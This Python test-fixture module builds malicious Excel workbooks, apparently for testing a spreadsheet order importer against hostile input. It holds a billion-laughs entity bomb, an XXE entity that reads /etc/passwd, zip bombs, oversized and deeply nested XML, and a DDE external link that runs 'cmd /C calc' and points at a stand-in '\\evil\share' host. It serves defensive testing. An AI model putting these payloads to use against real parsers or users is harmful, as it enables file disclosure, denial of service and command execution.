"""Workbooks made to do harm."""

from __future__ import annotations

import re
import zipfile
from random import Random
from typing import TYPE_CHECKING

from tests.fixtures import path as fixture
from tests.hostile.zips import (
    LINKS,
    MAIN,
    SHEET,
    STRINGS,
    central,
    changed,
    deflate,
    end,
    local,
    parts,
    row,
    with_parts,
    workbook,
    worksheet,
)

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator, Mapping
    from pathlib import Path

US = "tiktokshop-orders-us.xlsx"
_PIECE = 100_000


def streamed(path: Path, entries: Mapping[str, Iterable[bytes]]) -> None:
    """Write a workbook whose parts never stand in memory whole."""
    ends, directory = [], []
    with path.open("wb") as file:
        for name, pieces in entries.items():
            packed, size, check = deflate(pieces)
            directory.append(central(name.encode(), file.tell(), (len(packed), size, check)))
            file.write(local(name.encode(), packed, size, check))
        at = file.tell()
        ends.extend(directory)
        file.write(b"".join(ends) + end(len(ends), sum(map(len, ends)), at))


def laughs(path: Path) -> None:
    """Write entities that unfold to a billion laughs."""
    declared = b'<!ENTITY l0 "ha">' + b"".join(
        b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10)
    )
    page = b'<?xml version="1.0"?><!DOCTYPE worksheet [%s]><worksheet><sheetData>&l9;</sheetData></worksheet>'
    workbook(path, page % declared)


def outside(path: Path) -> None:
    """Write an entity that stands in another file of this computer."""
    page = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'
    workbook(path, page)


def in_utf16(path: Path) -> None:
    """Write the same entity where no one looks who looks for bytes."""
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///x">]><worksheet>&a;</worksheet>'
    workbook(path, text.encode("utf-16"))


def bomb(path: Path) -> None:
    """Write a sheet of nothing but blanks that weighs a thousandth of what it unpacks to."""
    streamed(path, {**_small(), SHEET: (b" " * 1_000_000 for _ in range(100))})


def padded_bomb(path: Path) -> None:
    """Write the same beside a stored picture, so that the file as a whole weighs enough."""
    streamed(
        path, {**_small(), SHEET: (b" " * 1_000_000 for _ in range(390)), "xl/media/a.png": _noise(4_000_000)}
    )


def far_cell(path: Path) -> None:
    """Write a cell at XFD1048576 after two plain ones."""
    last = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    workbook(path, worksheet(row(1, "Order ID", "x") + last))


def wrong_dimension(path: Path) -> None:
    """Copy a sample whose sheet now says that it is one cell."""
    _dimension(path, b"A1:A1")


def huge_dimension(path: Path) -> None:
    """Copy a sample whose sheet now says that it is as large as sheets get."""
    _dimension(path, b"A1:XFD1048576")


def _dimension(path: Path, ref: bytes) -> None:
    with zipfile.ZipFile(fixture(US)) as archive:
        said = re.search(rb'<dimension ref="[^"]*"', archive.read(SHEET))
    assert said is not None
    changed(US, path, SHEET, said[0], b'<dimension ref="%s"' % ref)


def shared_formula(path: Path) -> None:
    """Write a column of 1,048,576 cells that share one formula and have no result."""
    first = b'<row r="1"><c r="A1"><f t="shared" ref="A1:A1048576" si="0">1+1</f></c></row>'
    rest = (
        b"".join(
            b'<row r="%d"><c r="A%d"><f t="shared" si="0"/></c></row>' % (number, number)
            for number in range(start, min(start + _PIECE, 1_048_577))
        )
        for start in range(2, 1_048_577, _PIECE)
    )
    _in_sheet(path, first, rest)


def many_strings(path: Path) -> None:
    """Write ten million shared texts, none of which the sheet names."""

    def pieces() -> Iterator[bytes]:
        yield b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        for start in range(0, 10_000_000, _PIECE):
            yield b"".join(b"<si><t>%x</t></si>" % number for number in range(start, start + _PIECE))
        yield b"</sst>"

    small = _small(strings=True)
    streamed(path, {**small, STRINGS: pieces(), SHEET: [worksheet(row(1, "Order ID", "x"))]})


def many_ledger_strings(path: Path) -> None:
    """Write the same under a sheet's name that makes the file a ledger."""
    many_strings(path)
    with zipfile.ZipFile(path) as archive:
        entries = {name: archive.read(name) for name in archive.namelist() if name != STRINGS}
        strings = archive.read(STRINGS)
    entries["xl/workbook.xml"] = entries["xl/workbook.xml"].replace(b'"Orders"', b'"Sales"')
    streamed(path, {**{name: [content] for name, content in entries.items()}, STRINGS: [strings]})


def deep(path: Path) -> None:
    """Write a hundred thousand elements in each other."""
    workbook(path, worksheet(b"<a>" * 100_000))


def long_attribute(path: Path) -> None:
    """Write an attribute of fifty megabytes that packs badly."""
    noise = _noise(50_000_000, text=True)
    streamed(
        path,
        {**_small(), SHEET: (piece for part in ((b'<worksheet a="',), noise, (b'"/>',)) for piece in part)},
    )


def long_text(path: Path) -> None:
    """Write a cell of fifty megabytes that packs badly."""
    _in_sheet(
        path, b'<row r="1"><c t="inlineStr"><is><t>', _noise(50_000_000, text=True), b"</t></is></c></row>"
    )


def million_cells(path: Path) -> None:
    """Write a row of two million cells that do not say where they stand."""
    _in_sheet(path, b'<row r="1">', _cells_anywhere(), b"</row>")


def _cells_anywhere() -> Iterator[bytes]:
    for start in range(0, 2_000_000, _PIECE):
        yield b"".join(b"<c><v>%d</v></c>" % (number * 7919) for number in range(start, start + _PIECE))


def external_links(path: Path) -> None:
    """Copy a sample that links to another workbook and starts a program by DDE when Excel recalculates."""
    link = b'<externalLink xmlns="%s"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>' % MAIN
    target = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="%s/externalLinkPath" TargetMode="External"'
        b' Target="file:///\\\\evil\\share\\x.xlsx"/></Relationships>'
    )
    more = {
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": target % LINKS,
        "xl/connections.xml": b'<connections xmlns="%s"/>' % MAIN,
    }
    with_parts(US, path, more)


def macros(path: Path) -> None:
    """Copy a sample that carries macros, under a workbook's name."""
    with_parts(US, path, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(2_000)})


def _small(*, strings: bool = False) -> dict[str, Iterable[bytes]]:
    made = parts(b"", {STRINGS: b""} if strings else None)
    return {name: [content] for name, content in made.items() if name not in {SHEET, STRINGS}}


def _in_sheet(path: Path, before: bytes, pieces: Iterable[bytes], after: bytes = b"") -> None:
    head, _, tail = worksheet(b"\0").partition(b"\0")

    def whole() -> Iterator[bytes]:
        yield head + before
        yield from pieces
        yield after + tail

    streamed(path, {**_small(), SHEET: whole()})


def _noise(size: int, *, text: bool = False) -> Iterator[bytes]:
    """Give bytes that pack badly, the same every time."""
    random = Random(4)
    for _ in range(0, size, 1_000_000):
        yield random.randbytes(500_000).hex().encode() if text else random.randbytes(1_000_000)
